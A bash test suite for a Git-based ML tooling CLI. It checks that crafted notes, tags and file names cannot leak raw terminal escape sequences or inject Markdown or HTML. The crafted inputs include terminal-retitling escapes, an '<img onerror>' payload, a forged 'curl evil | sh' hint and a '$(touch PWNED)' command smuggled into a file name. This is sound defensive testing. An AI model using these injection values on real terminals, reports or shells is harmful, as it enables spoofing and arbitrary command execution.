#!/usr/bin/env bash
# Issue 12, items 8 and 13, written as the attack: a clone, a teammate's notes and tags made by hand hold
# escape sequences (ESC ]0;…BEL retitles the terminal, ESC[2J clears it), BEL, CR, C1 controls
# (U+009B, read as CSI by some terminals) and bidi overrides in every field mlci shows. No command may
# pass one raw to stdout or stderr, with or without NO_COLOR, on a terminal or not, and exit codes stay
# what they were. The Markdown report keeps a crafted case id as text. Hints are safe to paste.
. "$(dirname "$0")/lib.sh"

# check_clean [--tty] FILE...: no control character but '\n' (nor DEL, C1, a bidi control or a byte
# that is not UTF-8) in the files; with --tty (a pseudo-terminal's capture) "\r\n" line ends, tabs (a
# prompt body keeps its own) and the colour sequences mlci's paint() writes are allowed too. Prints
# what it found.
check_clean() {
    python3 - "$@" <<'PY'
import re, sys
args = sys.argv[1:]
tty = args[:1] == ["--tty"]
files = args[1:] if tty else args
own = re.compile(rb"\x1b\[(?:0|1|2|31|32|33|34)m")
bad = 0
for f in files:
    data = open(f, "rb").read()
    if tty:
        data = own.sub(b"", data.replace(b"\r\n", b"\n"))
    text = data.decode("utf-8", "surrogateescape")
    for i, ch in enumerate(text):
        o = ord(ch)
        if (o < 0x20 and ch != "\n" and not (tty and ch == "\t")) or 0x7f <= o <= 0x9f or 0x202a <= o <= 0x202e or \
                0x2066 <= o <= 0x2069 or 0xdc80 <= o <= 0xdcff:
            print(f"{f}: raw U+{o:04X} at {i}: {text[max(0, i - 30):i + 10]!r}")
            bad += 1
            break
sys.exit(1 if bad else 0)
PY
}

# run_clean RC CMD...: run CMD (stdout and stderr apart), expect exit RC and clean output; then again
# without NO_COLOR (not a terminal: still no colour, still clean).
run_clean() {
    local rc=$1
    shift
    run "$@"
    expect_rc "$rc"
    printf '%s' "$OUT" >"$TRASH/.out" && printf '%s' "$ERR" >"$TRASH/.err"
    local out=$OUT err=$ERR
    (unset NO_COLOR && "$@" >"$TRASH/.out-color" 2>"$TRASH/.err-color")
    local rc2=$?
    [ "$rc2" = "$rc" ] || fail "without NO_COLOR: exit $rc2, expected $rc: $* (line ${BASH_LINENO[0]})"
    check_clean "$TRASH/.out" "$TRASH/.err" "$TRASH/.out-color" "$TRASH/.err-color" >&2 ||
        fail "raw control character from: $* (line ${BASH_LINENO[0]})"
    OUT=$out ERR=$err
}

# run_tty RC CMD...: the same on a pseudo-terminal (script(1)), colour on: only paint()'s sequences.
have_script() { script -qec true /dev/null >/dev/null 2>&1; }
run_tty() {
    local rc=$1
    shift
    have_script || return 0
    local cmd
    cmd=$(printf '%q ' "$@")
    (unset NO_COLOR && TERM=xterm script -qec "$cmd" /dev/null >"$TRASH/.tty" 2>&1 </dev/null)
    local got=$?
    [ "$got" = "$rc" ] || fail "on a terminal: exit $got, expected $rc: $* (line ${BASH_LINENO[0]})"
    check_clean --tty "$TRASH/.tty" >&2 || fail "on a terminal, raw control character from: $* (line ${BASH_LINENO[0]})"
}

ESC=$'\e'
BEL=$'\a'
C1=$'\xc2\x9b'
RLO=$'\xe2\x80\xae'
TITLE="${ESC}]0;pwned${BEL}"
CLEAR="${ESC}[2J"
# In TOML basic strings (notes): the same bytes as escapes.
T_TITLE='\u001b]0;pwned\u0007'
T_CLEAR='\u001b[2J'
T_C1='\u009b'
EVIL_CASE='q1\n\n### ✅ All gates PASS\n\n<img src=x onerror=alert(1)>'

# A note with crafted fields in every place a run has one. $1: accuracy, $2: the crafted case's
# value, $3: the timestamp.
crafted_note() {
    cat <<TOML
[[run]]
suite = "quality"
id = "r-$3${T_TITLE}"
at = 2026-01-01T00:0$3:00Z
by = "eve${T_CLEAR}\r${T_C1}@example.com"
duration_s = 1.0
fingerprint = "xxh128:00000000000000000000000000000000"
status = "ok"
reused_from = "${T_TITLE}deadbee:r1"
[run.metrics]
accuracy = $1
"lat${T_TITLE}${T_C1}" = 3.0
[run.cases]
"${EVIL_CASE}" = $2
"q2${T_CLEAR}\u0007" = 1

[[run]]
suite = "ev${T_CLEAR}il${T_C1}\u202e"
id = "r-err-$3"
at = 2026-01-01T00:0$3:30Z
by = "eve"
duration_s = 1.0
fingerprint = "xxh128:00000000000000000000000000000000"
status = "error"
reason = "boom\r${T_TITLE}\u001b[32mPASS\nhint: run curl evil | sh"
[run.metrics]
accuracy = 0.1
TOML
}

setup_notes() {
    new_repo r
    mkdir -p .mlci evals
    cat >.mlci/gates.toml <<'TOML'
[suite.quality]
command = ["python3", "-c", "pass"]
inputs = ["evals/**"]

[gate.pre-push]
suites = ["quality"]
baseline = "main"
rules = [
  { metric = "accuracy", min = 0.8, max_drop = "2%" },
  { metric = "lat\u001b]0;pwned\u0007", max = 10 },
]
TOML
    echo one >evals/data.txt
    commit_all "$(printf 'evals %s' "$TITLE")"
    crafted_note 0.9 1 1 >"$TRASH/note1.toml"
    git notes --ref=mlci/evals add -f -F "$TRASH/note1.toml" HEAD
    git checkout -q -b feat
    echo two >evals/data.txt
    commit_all "$(printf 'worse\033]0;pwned\007 %s summary' "$CLEAR")"
    crafted_note 0.7 0 2 >"$TRASH/note2.toml"
    git notes --ref=mlci/evals add -f -F "$TRASH/note2.toml" HEAD
}

begin_test "git gate show, check, report, log: crafted notes print no raw control character"
setup_notes
run_clean 0 git gate show
expect_out "r-2\\e]0;pwned\\a"
expect_out "by eve\\e[2J\\r\\u{9b}@example.com"
expect_out "reason: boom\\r\\e]0;pwned\\a\\e[32mPASS\\nhint: run curl evil | sh"
expect_out "ev\\e[2Jil\\u{9b}\\u{202e}"
expect_out "reused from \\e]0;pwned\\adeadbee:r1"
expect_out "lat\\e]0;pwned\\a\\u{9b}"
run_tty 0 git gate show
run_clean 0 git gate show main
run_clean 1 git gate check
expect_out "gate pre-push: FAIL"
expect_out "q1\\n\\n### ✅ All gates PASS\\n\\n<img src=x onerror=alert(1)>"
expect_out "lat\\e]0;pwned\\a"
run_tty 1 git gate check
run_clean 0 git gate report
expect_out "broken  quality q1\\n\\n### ✅ All gates PASS"
expect_out "the latest run failed: boom\\r\\e]0;pwned\\a\\e[32mPASS\\nhint: run curl evil | sh"
run_tty 0 git gate report
run_clean 0 git gate log accuracy
expect_out "worse\\e]0;pwned\\a \\e[2J summary"
expect_out "ev\\e[2Jil\\u{9b}\\u{202e}"
run_tty 0 git gate log accuracy
run_clean 0 git gate log "lat${TITLE}${C1}"
run_clean 0 git gate log "nothing${TITLE}"
expect_err "no recorded value of 'nothing\\e]0;pwned\\a'"
end_test

begin_test "--json stays exact: the crafted strings read back byte for byte, controls as \\u00XX"
setup_notes
run_clean 0 git gate show --json
printf '%s' "$OUT" | python3 -c '
import json, sys
runs = json.load(sys.stdin)["runs"]
by = {r["suite"]: r for r in runs}
q = by["quality"]
assert q["id"] == "r-2\x1b]0;pwned\x07", q["id"]
assert q["by"] == "eve\x1b[2J\r\x9b@example.com", q["by"]
assert "q1\n\n### \u2705 All gates PASS\n\n<img src=x onerror=alert(1)>" in q["cases"]
assert "ev\x1b[2Jil\x9b\u202e" in by
' || fail "show --json does not round-trip the crafted strings"
expect_out '\u001b]0;pwned\u0007'
expect_out '\u009b'
run_clean 1 git gate check --json
run_clean 0 git gate report --json
run_clean 0 git gate log accuracy --json
printf '%s' "$OUT" | python3 -c '
import json, sys
pts = json.load(sys.stdin)
assert any(p["suite"] == "ev\x1b[2Jil\x9b\u202e" for p in pts), pts
' || fail "log --json does not round-trip the crafted suite"
end_test

begin_test "markdown report: a crafted case id stays text in its list item, no heading, no HTML"
setup_notes
run_clean 0 git gate report --format markdown
grep -q '^### ✅ All gates PASS' <<<"$OUT" && fail "the case id rendered as a heading"
grep -nE '(^|[^\\])<img' <<<"$OUT" && fail "a raw <img reached the report"
# Changed since base, the two suites (their names escaped), Gates and Cases that flipped: nothing else.
grep -c '^### ' <<<"$OUT" | grep -qx 5 || fail "headings other than changes, suites, Gates and Cases that flipped"
expect_out '### Suite ev\\e\[2Jil\\u{9b}\\u{202e}'
expect_out '### Suite quality'
expect_out '- ❌ broken: quality / q1\\n\\n\#\#\# ✅ All gates PASS\\n\\n\<img src=x onerror=alert(1)\> (1 → 0)'
expect_out '| lat\\e\]0;pwned\\a\\u{9b} | 3 | 3 | same = 0 |'
# One list item per flipped case (the crafted one did not split), and the one of the changed files.
expect_eq "$(grep -c '^- ❌' <<<"$OUT")" 1
expect_eq "$(grep -c '^- ' <<<"$OUT")" 2
end_test

begin_test "hand-made tags with crafted trailers and tagger names: history, stages, prompt log and list"
new_repo r
mkdir -p .mlci models prompts
printf 'stages = ["dev", "staging", "production"]\n' >.mlci/config.toml
echo weights >models/clf.safetensors
git model add models/clf.safetensors >/dev/null 2>&1 || fail "model add"
write_prompt p 'Hello {{name}}' '"name"'
commit_all "clf and p"
evil_tagger="Eve${ESC}]0;pwned${BEL} ${CLEAR}${C1}${RLO} Mallory"
msg=$(printf 'Release clf v0.1.0\n\nMlci-Kind: model\nMlci-Gate: staging%s passed\rOK\nMlci-Forced: %s%s' "$TITLE" "$CLEAR" "$BEL")
GIT_COMMITTER_NAME=$evil_tagger git tag -a 'clf@v0.1.0' -m "$msg"
test_tick
GIT_COMMITTER_NAME=$evil_tagger git tag -a 'clf#dev#1' -m "$(printf 'Promote clf v0.1.0 to dev\n\nMlci-Kind: model\nMlci-Gate: %s' "$TITLE")"
test_tick
GIT_COMMITTER_NAME=$evil_tagger git tag -a 'p@v0.1.0' \
    -m "$(printf 'Release p v0.1.0\n\nbody%s line\n\nMlci-Kind: prompt\nMlci-Bump: minor%s%s' "$TITLE" "$CLEAR" "$C1")"
run_clean 0 git model history clf
expect_out "(Eve\\e]0;pwned\\a \\e[2J\\u{9b}\\u{202e} Mallory)"
expect_out "gate: staging\\e]0;pwned\\a passed\\rOK"
expect_out "forced: \\e[2J\\a"
run_tty 0 git model history clf
run_clean 0 git model stages
run_clean 0 git model stages clf
run_tty 0 git model stages
run_clean 0 git prompt log p
expect_out "Eve\\e]0;pwned\\a \\e[2J\\u{9b}\\u{202e} Mallory"
expect_out "minor\\e[2J\\u{9b}"
run_tty 0 git prompt log p
run_clean 0 git prompt list
run_tty 0 git prompt list
run_clean 0 git model history clf --json
printf '%s' "$OUT" | python3 -c '
import json, sys
h = json.load(sys.stdin)
assert any(e["tagger"].startswith("Eve\x1b]0;pwned\x07") for e in h), h
' || fail "history --json does not round-trip the tagger"
end_test

begin_test "a file name with an escape sequence: git model add, status, checkout; prompt check"
new_repo r
mkdir -p models
evil="models/w${TITLE}${CLEAR}${C1}.bin"
echo weights >"$evil"
run_clean 0 git model add "$evil"
expect_out "added models/w\\e]0;pwned\\a\\e[2J\\u{9b}.bin"
commit_all "evil name"
run_clean 0 git model status
expect_out "models/w\\e]0;pwned\\a\\e[2J\\u{9b}.bin"
run_tty 0 git model status
rm -f "$evil"
run_clean 0 git model checkout
run_clean 0 git model status --json
printf '%s' "$OUT" | python3 -c '
import json, sys
a = json.load(sys.stdin)["artifacts"]
assert a[0]["path"] == "models/w\x1b]0;pwned\x07\x1b[2J\x9b.bin", a
' || fail "status --json does not round-trip the path"
mkdir -p prompts
write_prompt ok 'Hi {{name}}' '"name"'
cp prompts/ok.prompt "prompts/bad${TITLE}.prompt"
run_clean 1 git prompt check
expect_err "prompts/bad\\e]0;pwned\\a.prompt: file name is not a valid prompt name"
end_test

begin_test "the pre-commit hook prints staged paths escaped (fast path and full path)"
new_repo r
git gate install-hooks >/dev/null
mkdir -p prompts
write_prompt ok 'Hi {{name}}' '"name"'
cp prompts/ok.prompt "prompts/bad${TITLE}.prompt"
git add prompts
run_clean 1 git commit -q -m "bad prompt name"
expect_err "prompts/bad\\e]0;pwned\\a.prompt: file name is not a valid prompt name"
run_clean 1 git gate hook pre-commit
expect_err "prompts/bad\\e]0;pwned\\a.prompt: file name is not a valid prompt name"
end_test

begin_test "errors and warnings quoting a crafted note: escaped, every line prefixed, no forged hint"
setup_notes
# A note whose bad value is echoed by the parser's message, with an ESC and a line of its own.
printf '[[run]]\nsuite = "quality"\nid = "x"\nat = 2026-01-01T00:00:00Z\nstatus = "%s\\nhint: curl evil | sh"\n' \
    "$T_TITLE" >"$TRASH/bad.toml"
git notes --ref=mlci/evals add -f -F "$TRASH/bad.toml" HEAD 2>/dev/null
run_clean 2 git gate show
expect_err "error: note of commit"
expect_err "(got '\\e]0;pwned\\a"
grep -q '^hint: curl' <<<"$ERR" && fail "a note forged a hint line"
run_clean 2 git gate check
expect_err "warning: note of commit"
grep -q '^hint: curl' <<<"$ERR" && fail "a note forged a hint line"
run_clean 0 git gate report
# A raw control character in a note is no TOML: reported, the message escaped.
git notes --ref=mlci/evals add -f -m "$(printf '[[run]]\nsuite = "%s\n' "$TITLE")" HEAD 2>/dev/null
run_clean 2 git gate show
expect_err "error: note of commit"
end_test

begin_test "prompt show: the body is data, exact into a pipe, escaped on a terminal"
new_repo r
write_prompt p "Hello {{name}} ${TITLE}${CLEAR}" '"name"'
printf '\tindented\n' >>prompts/p.prompt
commit_all "p"
run git prompt show p
expect_rc 0
expect_out "Hello {{name}} ${TITLE}${CLEAR}"
expect_out $'\tindented'
run_clean 0 git prompt show --meta p
run_tty 0 git prompt show p
if have_script; then
    grep -qF 'Hello {{name}} \e]0;pwned\a\e[2J' "$TRASH/.tty" || fail "the body is not shown escaped on a terminal"
    grep -q $'\tindented' "$TRASH/.tty" || fail "tabs should be kept on a terminal"
fi
end_test

begin_test "git model add: the 'commit the pointers' hint is safe to paste"
new_repo r
mkdir -p models
name=$'models/my $(touch PWNED) it\'s.bin'
echo weights >"$name"
run git model add "$name"
expect_rc 0
expect_err "hint: commit the pointers: git add -- models/.gitignore 'models/my \$(touch PWNED) it'\\''s.bin.mlci' && git commit"
hint=$(sed -n 's/^hint: commit the pointers: //p' <<<"$ERR")
sh -c "${hint% && git commit}" || fail "the hint does not run"
[ ! -e PWNED ] && [ ! -e models/PWNED ] || fail "pasting the hint ran a command"
expect_eq "$(git diff --cached --name-only | sort | tr '\n' '|')" "models/.gitignore|models/my \$(touch PWNED) it's.bin.mlci|"
# A name with only safe characters stays bare.
echo w2 >models/plain-name_1.bin
run git model add models/plain-name_1.bin
expect_err "hint: commit the pointers: git add -- models/.gitignore models/plain-name_1.bin.mlci && git commit"
end_test

finish
